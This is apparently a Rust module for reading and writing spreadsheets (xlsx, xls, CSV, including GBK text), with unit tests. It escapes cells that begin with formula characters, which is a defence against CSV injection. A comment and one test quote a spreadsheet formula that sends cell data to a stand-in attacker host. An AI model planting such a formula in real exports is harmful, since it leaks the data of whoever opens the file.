//! Reading and writing spreadsheets as plain tables of strings (pure functions over bytes).
//!
//! The input format is detected from the content, never from a file name:
//! `PK\x03\x04` is an xlsx (Office Open XML) workbook, `D0 CF 11 E0 A1 B1 1A E1` a legacy
//! xls (OLE) workbook, anything else is tried as CSV text (UTF-8, with or without BOM, or
//! GB18030/GBK as saved by a Chinese Excel).

use std::io::Cursor;

use calamine::{Data, Range, Reader};

const ZIP_MAGIC: &[u8] = b"PK\x03\x04";
const OLE_MAGIC: &[u8] = &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
const UTF8_BOM: &[u8] = &[0xEF, 0xBB, 0xBF];

/// Why an upload could not be read as a table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SheetError {
    /// Not an xlsx/xls workbook and not CSV text either (or a corrupt workbook).
    NotASpreadsheet,
    /// No header row, or a header row without any data row below it.
    Empty,
    /// More data rows than the given limit (the limit is carried).
    TooManyRows(usize),
}

impl SheetError {
    /// The localized message key.
    pub fn code(&self) -> &'static str {
        match self {
            SheetError::NotASpreadsheet => "import.not_a_spreadsheet",
            SheetError::Empty => "import.empty",
            SheetError::TooManyRows(_) => "import.too_many_rows",
        }
    }
}

impl std::fmt::Display for SheetError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SheetError::TooManyRows(max) => write!(f, "{} (max {max})", self.code()),
            _ => f.write_str(self.code()),
        }
    }
}

impl std::error::Error for SheetError {}

/// A table read from a spreadsheet: trimmed header cells and the non-blank data rows, each
/// with the 1-based row number the user sees in Excel (so issues can point at it).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Table {
    pub headers: Vec<String>,
    /// `(row number, cells)`; cells are trimmed and padded to at least `headers.len()`.
    pub rows: Vec<(usize, Vec<String>)>,
}

impl Table {
    /// Index of the column whose (trimmed) header is exactly `name`.
    pub fn column(&self, name: &str) -> Option<usize> {
        self.headers.iter().position(|h| h == name)
    }
}

/// Read the first worksheet of an xlsx/xls workbook or a CSV text into a [`Table`].
///
/// The first non-blank row is the header row; rows whose cells are all blank are skipped.
/// More than `max_rows` data rows give [`SheetError::TooManyRows`].
pub fn read_table(bytes: &[u8], max_rows: usize) -> Result<Table, SheetError> {
    if bytes.iter().all(u8::is_ascii_whitespace) {
        return Err(SheetError::Empty);
    }
    let numbered = if bytes.starts_with(ZIP_MAGIC) {
        read_workbook::<calamine::Xlsx<_>>(bytes, max_rows)?
    } else if bytes.starts_with(OLE_MAGIC) {
        read_workbook::<calamine::Xls<_>>(bytes, max_rows)?
    } else {
        read_csv(bytes, max_rows)?
    };
    into_table(numbered)
}

/// Split numbered rows into the header row and data rows.
fn into_table(mut numbered: Vec<(usize, Vec<String>)>) -> Result<Table, SheetError> {
    if numbered.is_empty() {
        return Err(SheetError::Empty);
    }
    let (_, headers) = numbered.remove(0);
    if numbered.is_empty() {
        return Err(SheetError::Empty);
    }
    let width = headers.len();
    for (_, cells) in &mut numbered {
        if cells.len() < width {
            cells.resize(width, String::new());
        }
    }
    Ok(Table {
        headers,
        rows: numbered,
    })
}

/// Keep a row if any cell is non-blank; `Err` once more than header + `max_rows` are kept.
fn push_row(
    out: &mut Vec<(usize, Vec<String>)>,
    row: usize,
    cells: Vec<String>,
    max_rows: usize,
) -> Result<(), SheetError> {
    if cells.iter().all(String::is_empty) {
        return Ok(());
    }
    if out.len() > max_rows {
        // Header plus max_rows data rows already kept: this one is too many.
        return Err(SheetError::TooManyRows(max_rows));
    }
    out.push((row, cells));
    Ok(())
}

fn read_workbook<R>(bytes: &[u8], max_rows: usize) -> Result<Vec<(usize, Vec<String>)>, SheetError>
where
    R: Reader<Cursor<Vec<u8>>>,
{
    let owned = bytes.to_vec();
    // Parsers of binary formats are the likeliest to trip over hostile input: a panic in
    // there must become "not a spreadsheet", never take the caller down.
    let parsed = std::panic::catch_unwind(std::panic::AssertUnwindSafe(
        move || -> Option<Range<Data>> {
            let mut workbook = R::new(Cursor::new(owned)).ok()?;
            workbook.worksheet_range_at(0)?.ok()
        },
    ));
    let Ok(Some(range)) = parsed else {
        return Err(SheetError::NotASpreadsheet);
    };
    let first_row = range.start().map_or(0, |(r, _)| r as usize);
    let mut out = Vec::new();
    for (i, row) in range.rows().enumerate() {
        let mut cells: Vec<String> = row.iter().map(cell_text).collect();
        while cells.last().is_some_and(String::is_empty) {
            cells.pop();
        }
        push_row(&mut out, first_row + i + 1, cells, max_rows)?;
    }
    Ok(out)
}

/// A cell as trimmed text: integers without ".0", dates as `YYYY-MM-DD`.
fn cell_text(cell: &Data) -> String {
    match cell {
        Data::Empty | Data::Error(_) => String::new(),
        Data::String(s) => s.trim().to_string(),
        Data::Int(i) => i.to_string(),
        Data::Float(f) => float_text(*f),
        Data::Bool(b) => if *b { "TRUE" } else { "FALSE" }.to_string(),
        Data::DateTime(dt) => {
            if dt.is_duration() {
                return float_text(dt.as_f64());
            }
            let (y, mo, d, h, mi, s, _) = dt.to_ymd_hms_milli();
            if (h, mi, s) == (0, 0, 0) {
                format!("{y:04}-{mo:02}-{d:02}")
            } else {
                format!("{y:04}-{mo:02}-{d:02} {h:02}:{mi:02}:{s:02}")
            }
        }
        Data::DateTimeIso(s) => {
            let s = s.trim();
            // "2024-03-01T00:00:00" → "2024-03-01"; a bare time stays as it is.
            match s.split_once('T') {
                Some((date, time)) if time.trim_start_matches(['0', ':', '.']).is_empty() => {
                    date.to_string()
                }
                Some((date, time)) => format!("{date} {time}"),
                None => s.to_string(),
            }
        }
        Data::DurationIso(s) => s.trim().to_string(),
    }
}

/// Whole numbers print as integers (a phone or room number typed as a number); note that
/// an 18-digit ID stored as a number has already lost its last digits in Excel.
fn float_text(f: f64) -> String {
    if f.is_finite() && f.fract() == 0.0 && f.abs() < 1e21 {
        format!("{f:.0}")
    } else {
        f.to_string()
    }
}

fn decode_text(bytes: &[u8]) -> Result<String, SheetError> {
    let bytes = bytes.strip_prefix(UTF8_BOM).unwrap_or(bytes);
    if bytes.contains(&0) {
        return Err(SheetError::NotASpreadsheet);
    }
    let text = match std::str::from_utf8(bytes) {
        Ok(s) => s.to_string(),
        Err(_) => {
            let (text, _, had_errors) = encoding_rs::GB18030.decode(bytes);
            if had_errors {
                return Err(SheetError::NotASpreadsheet);
            }
            text.into_owned()
        }
    };
    let binary = text
        .chars()
        .any(|c| c == '\u{FFFD}' || (c.is_control() && !matches!(c, '\t' | '\r' | '\n')));
    if binary {
        return Err(SheetError::NotASpreadsheet);
    }
    Ok(text)
}

fn read_csv(bytes: &[u8], max_rows: usize) -> Result<Vec<(usize, Vec<String>)>, SheetError> {
    let text = decode_text(bytes)?;
    // The first non-blank line must look like a comma-separated header.
    let header_line = text.lines().find(|l| !l.trim().is_empty());
    match header_line {
        None => return Err(SheetError::Empty),
        Some(line) if !line.contains(',') => return Err(SheetError::NotASpreadsheet),
        Some(_) => {}
    }
    let mut out = Vec::new();
    for (row, fields) in csv_records(&text) {
        let mut cells: Vec<String> = fields
            .iter()
            .map(|c| without_formula_guard(c.trim()).to_string())
            .collect();
        while cells.last().is_some_and(String::is_empty) {
            cells.pop();
        }
        push_row(&mut out, row, cells, max_rows)?;
    }
    Ok(out)
}

/// Split RFC 4180 text into records numbered the way Excel shows them: every record is
/// one row (a quoted field may span lines), and a blank line is a blank row.
fn csv_records(text: &str) -> Vec<(usize, Vec<String>)> {
    let mut records = Vec::new();
    let mut fields: Vec<String> = Vec::new();
    let mut field = String::new();
    let mut in_quotes = false;
    let mut chars = text.chars().peekable();
    let mut end_record = |fields: &mut Vec<String>, field: &mut String| {
        fields.push(std::mem::take(field));
        let row = records.len() + 1;
        records.push((row, std::mem::take(fields)));
    };
    while let Some(c) = chars.next() {
        if in_quotes {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => in_quotes = false,
                _ => field.push(c),
            }
            continue;
        }
        match c {
            ',' => fields.push(std::mem::take(&mut field)),
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                end_record(&mut fields, &mut field);
            }
            '\n' => end_record(&mut fields, &mut field),
            '"' if field.is_empty() => in_quotes = true,
            _ => field.push(c),
        }
    }
    if !field.is_empty() || !fields.is_empty() || in_quotes {
        end_record(&mut fields, &mut field);
    }
    records
}

/// Display width of a cell in Excel column units (CJK characters count double).
fn display_width(s: &str) -> usize {
    s.chars().map(|c| if c.is_ascii() { 1 } else { 2 }).sum()
}

/// An xlsx workbook with one sheet: a bold header row, then all cells as text (so ID
/// numbers keep their 18 digits and leading zeros survive).
pub fn write_xlsx(
    sheet_name: &str,
    headers: &[&str],
    rows: &[Vec<String>],
) -> Result<Vec<u8>, String> {
    use rust_xlsxwriter::{Format, Workbook};

    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold().set_num_format("@");
    let text = Format::new().set_num_format("@");
    let sheet = workbook.add_worksheet();
    sheet.set_name(sheet_name).map_err(|e| e.to_string())?;
    let columns = rows
        .iter()
        .map(Vec::len)
        .chain(std::iter::once(headers.len()))
        .max()
        .unwrap_or(0);
    let columns = u16::try_from(columns).map_err(|_| "too many columns".to_string())?;
    for col in 0..columns {
        let c = usize::from(col);
        let widest = rows
            .iter()
            .filter_map(|r| r.get(c))
            .map(|s| display_width(s))
            .chain(headers.get(c).map(|h| display_width(h)))
            .max()
            .unwrap_or(0);
        let width = (widest + 2).clamp(8, 50) as f64;
        sheet
            .set_column_width(col, width)
            .map_err(|e| e.to_string())?;
        // Cells users add later in the template are text too.
        sheet
            .set_column_format(col, &text)
            .map_err(|e| e.to_string())?;
    }
    for (c, h) in headers.iter().enumerate() {
        sheet
            .write_string_with_format(0, c as u16, *h, &bold)
            .map_err(|e| e.to_string())?;
    }
    for (r, row) in rows.iter().enumerate() {
        let r = u32::try_from(r + 1).map_err(|_| "too many rows".to_string())?;
        for (c, value) in row.iter().enumerate() {
            sheet
                .write_string_with_format(r, c as u16, value, &text)
                .map_err(|e| e.to_string())?;
        }
    }
    sheet.set_freeze_panes(1, 0).map_err(|e| e.to_string())?;
    workbook.save_to_buffer().map_err(|e| e.to_string())
}

/// CSV text in UTF-8 with a BOM (so Excel recognizes the encoding), RFC 4180 quoting.
pub fn write_csv(headers: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new()
        .flexible(true)
        .from_writer(UTF8_BOM.to_vec());
    // Writing into a Vec cannot fail.
    let _ = writer.write_record(headers);
    for row in rows {
        let _ = writer.write_record(row.iter().map(|c| with_formula_guard(c).into_owned()));
    }
    writer.into_inner().unwrap_or_default()
}

/// Characters that make Excel, WPS or LibreOffice run a CSV cell as a formula (CSV injection:
/// `=HYPERLINK("http://…"&A1)` sends data away when the file is opened).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell that a spreadsheet would run as a formula, written with a leading `'` (shown as
/// text, and taken off again by [`read_table`]). Plain numbers such as `-3` are left alone.
fn with_formula_guard(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_START) && cell.trim().parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// The text of a cell written by [`with_formula_guard`].
fn without_formula_guard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ID: &str = "42010219900307001X";

    #[test]
    fn csv_cells_that_look_like_formulas_are_written_as_text_and_read_back() {
        let headers = ["姓名", "备注", "数"];
        let rows = vec![vec![
            "=HYPERLINK(\"http://evil.example/\"&A1)".to_string(),
            "@SUM(A1)".to_string(),
            "-3".to_string(),
        ]];
        let bytes = write_csv(&headers, &rows);
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(text.contains("\"'=HYPERLINK("), "{text}");
        assert!(text.contains(",'@SUM(A1),-3"), "{text}");
        let table = read_table(&bytes, 10).unwrap();
        assert_eq!(table.rows[0].1, rows[0]);
    }

    fn sample() -> (Vec<&'static str>, Vec<Vec<String>>) {
        let headers = vec!["户号", "姓名", "身份证号", "备注"];
        let rows = vec![
            vec![
                "1".into(),
                "王小明".into(),
                ID.into(),
                "有逗号,也有\"引号\"".into(),
            ],
            vec![
                "2".into(),
                "李娜".into(),
                "420102198001010026".into(),
                String::new(),
            ],
        ];
        (headers, rows)
    }

    fn check_sample(t: &Table) {
        let (headers, rows) = sample();
        assert_eq!(t.headers, headers);
        assert_eq!(t.rows.len(), 2);
        assert_eq!(t.rows[0].0, 2);
        assert_eq!(t.rows[1].0, 3);
        assert_eq!(t.rows[0].1, rows[0]);
        assert_eq!(t.rows[1].1, rows[1]);
    }

    #[test]
    fn xlsx_round_trip() {
        let (headers, rows) = sample();
        let bytes = write_xlsx("住户", &headers, &rows).unwrap();
        assert!(bytes.starts_with(ZIP_MAGIC));
        check_sample(&read_table(&bytes, 100).unwrap());
    }

    #[test]
    fn csv_round_trip() {
        let (headers, rows) = sample();
        let bytes = write_csv(&headers, &rows);
        assert!(bytes.starts_with(UTF8_BOM));
        check_sample(&read_table(&bytes, 100).unwrap());
    }

    #[test]
    fn gbk_csv_is_decoded() {
        let text = "姓名,社区\r\n张三,幸福里社区\r\n";
        let (bytes, _, _) = encoding_rs::GBK.encode(text);
        assert!(std::str::from_utf8(&bytes).is_err());
        let t = read_table(&bytes, 10).unwrap();
        assert_eq!(t.headers, ["姓名", "社区"]);
        assert_eq!(
            t.rows,
            vec![(2, vec!["张三".to_string(), "幸福里社区".to_string()])]
        );
    }

    #[test]
    fn garbage_is_refused_without_panic() {
        let mut seed = 0x2545_f491_4f6c_dd1du64;
        for len in [1usize, 7, 64, 500, 4096] {
            let garbage: Vec<u8> = (0..len)
                .map(|_| {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    (seed >> 24) as u8
                })
                .collect();
            assert!(read_table(&garbage, 10).is_err(), "len {len}");
        }
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10";
        assert_eq!(read_table(png, 10), Err(SheetError::NotASpreadsheet));
        assert_eq!(read_table(b"", 10), Err(SheetError::Empty));
        assert_eq!(read_table(b" \r\n ", 10), Err(SheetError::Empty));
        let broken_zip = b"PK\x03\x04\x14\0\0\0\x08\0garbage that is not a zip";
        assert_eq!(read_table(broken_zip, 10), Err(SheetError::NotASpreadsheet));
        let ole = [OLE_MAGIC, b"rest of nothing"].concat();
        assert_eq!(read_table(&ole, 10), Err(SheetError::NotASpreadsheet));
        // A valid zip that is not a workbook.
        let (headers, rows) = sample();
        let mut xlsx = write_xlsx("S", &headers, &rows).unwrap();
        xlsx.truncate(xlsx.len() / 2);
        assert!(read_table(&xlsx, 10).is_err());
        // Plain prose is not a table.
        assert_eq!(
            read_table("你好世界".as_bytes(), 10),
            Err(SheetError::NotASpreadsheet)
        );
    }

    #[test]
    fn blank_rows_are_skipped_but_counted() {
        let csv = "\n姓名,电话\n\n张三,13812345678\n , \n李四,\"多行\n备注\"\n王五,1\n";
        let t = read_table(csv.as_bytes(), 10).unwrap();
        assert_eq!(t.headers, ["姓名", "电话"]);
        let numbers: Vec<usize> = t.rows.iter().map(|r| r.0).collect();
        assert_eq!(numbers, [4, 6, 7]);
        assert_eq!(t.rows[1].1[1], "多行\n备注");

        let rows = vec![
            vec!["张三".to_string(), "1".to_string()],
            vec![String::new(), String::new()],
            vec!["李四".to_string(), String::new()],
        ];
        let bytes = write_xlsx("S", &["姓名", "电话"], &rows).unwrap();
        let t = read_table(&bytes, 10).unwrap();
        let numbers: Vec<usize> = t.rows.iter().map(|r| r.0).collect();
        assert_eq!(numbers, [2, 4]);
    }

    #[test]
    fn too_many_rows_and_header_only() {
        let csv = "a,b\n1,2\n3,4\n5,6\n";
        assert_eq!(
            read_table(csv.as_bytes(), 2),
            Err(SheetError::TooManyRows(2))
        );
        assert_eq!(read_table(csv.as_bytes(), 3).unwrap().rows.len(), 3);
        assert_eq!(read_table(b"a,b\n", 3), Err(SheetError::Empty));
        assert_eq!(SheetError::TooManyRows(2).code(), "import.too_many_rows");
    }

    #[test]
    fn numbers_and_dates_from_xlsx() {
        use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
        let mut wb = Workbook::new();
        let date = Format::new().set_num_format("yyyy-mm-dd");
        let ws = wb.add_worksheet();
        ws.write_string(1, 1, "房号").unwrap();
        ws.write_string(1, 2, "手机号").unwrap();
        ws.write_string(1, 3, "入住日期").unwrap();
        ws.write_string(1, 4, "面积").unwrap();
        ws.write_number(2, 1, 502.0).unwrap();
        ws.write_number(2, 2, 13812345678.0).unwrap();
        let d = ExcelDateTime::from_ymd(2019, 8, 1).unwrap();
        ws.write_datetime_with_format(2, 3, &d, &date).unwrap();
        ws.write_number(2, 4, 89.5).unwrap();
        let bytes = wb.save_to_buffer().unwrap();
        let t = read_table(&bytes, 10).unwrap();
        assert_eq!(t.headers, ["房号", "手机号", "入住日期", "面积"]);
        assert_eq!(t.rows.len(), 1);
        assert_eq!(t.rows[0].0, 3);
        assert_eq!(t.rows[0].1, ["502", "13812345678", "2019-08-01", "89.5"]);
        assert_eq!(float_text(4.20102199001011e17), "420102199001011008");
    }
}
